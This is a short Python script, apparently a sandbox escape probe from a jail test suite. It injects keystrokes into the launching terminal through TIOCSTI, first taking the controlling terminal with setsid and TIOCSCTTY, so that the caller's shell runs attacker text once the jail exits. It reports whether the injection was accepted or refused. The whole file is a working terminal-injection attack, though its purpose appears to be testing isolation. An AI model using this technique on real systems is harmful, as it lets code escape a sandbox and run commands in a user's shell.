# Attack: push keystrokes into the terminal the jail was started from
# (TIOCSTI), so that the caller's shell runs them after the jail exits.
# TIOCSTI without CAP_SYS_ADMIN needs the terminal to be the caller's
# controlling one, so a child first leaves for a session of its own (the
# payload leads its process group, where setsid fails) and claims the
# terminal with TIOCSCTTY. The host checks its pty's input queue too.
import fcntl, os, sys, termios


def attack(text):
    try:
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)
        print("setsid+TIOCSCTTY: the terminal is now ours")
    except OSError as e:
        print("setsid/TIOCSCTTY:", e.__class__.__name__, e.errno)
    pushed = []
    for fd in (0, 1, 2):
        try:
            for ch in text:
                fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
            pushed.append(fd)
        except OSError as e:
            print("fd", fd, "TIOCSTI:", e.__class__.__name__, e.errno)
    print(f"OPEN TIOCSTI accepted on fd {pushed}" if pushed else "HELD TIOCSTI refused on fds 0-2")


sys.stdout.flush()
pid = os.fork()
if pid == 0:
    try:
        attack(sys.argv[1])
    finally:
        sys.stdout.flush()
        os._exit(0)
os.waitpid(pid, 0)
